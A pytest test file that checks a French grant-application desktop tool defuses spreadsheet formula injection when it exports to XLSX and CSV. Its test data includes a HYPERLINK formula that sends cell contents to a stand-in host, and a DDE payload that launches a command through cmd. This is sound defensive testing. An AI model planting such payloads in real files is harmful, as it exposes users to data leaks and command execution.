"""Exports carry no live formulas: hostile text goes out as text and reads back the same."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from helpers import sample_dossier

from ptce_desktop.cli import main as ptce
from ptce_desktop.domain.model import Member, MemberCategory
from ptce_desktop.io.parsing import quote_csv_text, undo_csv_quote
from ptce_desktop.services.calls import new_call
from ptce_desktop.store.db import CallStore
from ptce_desktop.store.dossiers import DOSSIER_FIELDS, insert_dossiers, load_dossiers

HOSTILE = [
    '=HYPERLINK("http://x/?"&A2,"clic")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2",
    "'quoted",
]


def _hostile_call(path: Path) -> None:
    d = sample_dossier("PTCE/2013/001")  # a « / » in the numero: the attachment path is safe
    d.pole_name = HOSTILE[0]
    d.lead_name = HOSTILE[1]
    d.summary = "=1+1"
    d.contact_phone = "+33 1 23 45 67 89"
    d.members = [Member(name=v, category=MemberCategory.ESS_ENTERPRISE) for v in HOSTILE]
    d.cofundings[0].funder = "@Ville"
    store = new_call(path, title="Appel hostile", actor="test")
    with store.transaction("test"):
        insert_dossiers(store, [d])
    store.close()


def _dossiers(path: Path) -> list:
    with CallStore.open(path, actor="test") as store:
        return load_dossiers(store, with_content=True)


@pytest.mark.parametrize("suffix", [".xlsx", ".zip"])
def test_hostile_text_round_trips_through_the_export(tmp_path, capsys, suffix):
    source = tmp_path / "hostile.ptce"
    _hostile_call(source)
    out = tmp_path / f"export{suffix}"
    assert ptce(["export", str(source), str(out)]) == 0
    target = tmp_path / "nouveau.ptce"
    new_call(target, title="Nouvel appel", actor="test").close()
    assert ptce(["import", str(target), str(out)]) == 0, capsys.readouterr().err
    (a,), (b,) = _dossiers(source), _dossiers(target)
    for f in DOSSIER_FIELDS:
        assert getattr(b, f) == getattr(a, f), f
    assert [m.name for m in b.members] == HOSTILE
    assert b.cofundings[0].funder == "@Ville"
    assert [x.content for x in b.attachments] == [x.content for x in a.attachments]


def test_xlsx_export_holds_no_formula(tmp_path):
    source = tmp_path / "hostile.ptce"
    _hostile_call(source)
    out = tmp_path / "export.xlsx"
    assert ptce(["export", str(source), str(out)]) == 0
    with zipfile.ZipFile(out) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        xml = b"".join(z.read(n) for n in sheets)
    assert sheets
    assert re.search(rb"<(\w+:)?f[\s>]", xml) is None
    assert b"HYPERLINK(" in xml  # still there, as text
    assert rb't="inlineStr"><is><t>=HYPERLINK(' in xml


def test_csv_export_defuses_every_text_cell_and_leaves_numbers(tmp_path):
    source = tmp_path / "hostile.ptce"
    _hostile_call(source)
    out = tmp_path / "export.zip"
    assert ptce(["export", str(source), str(out)]) == 0
    with zipfile.ZipFile(out) as z:
        members = list(
            csv.reader(io.StringIO(z.read("membres.csv").decode("utf-8-sig")), delimiter=";")
        )
        dossiers = list(
            csv.reader(io.StringIO(z.read("dossiers.csv").decode("utf-8-sig")), delimiter=";")
        )
    names = [row[1] for row in members[1:]]
    assert names == ["'" + v for v in HOSTILE]
    row = dict(zip(dossiers[0], dossiers[1], strict=True))
    assert row["Nom du pôle"] == "'" + HOSTILE[0]
    assert row["Montant demandé"] == "150000,00"  # a number column is never quoted
    for text in (c for r in dossiers + members for c in r):
        assert not text.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", [*HOSTILE, "\tx", "\rx", "plain", "", "''"])
def test_quote_and_unquote_are_inverse(value):
    assert undo_csv_quote(quote_csv_text(value)) == value
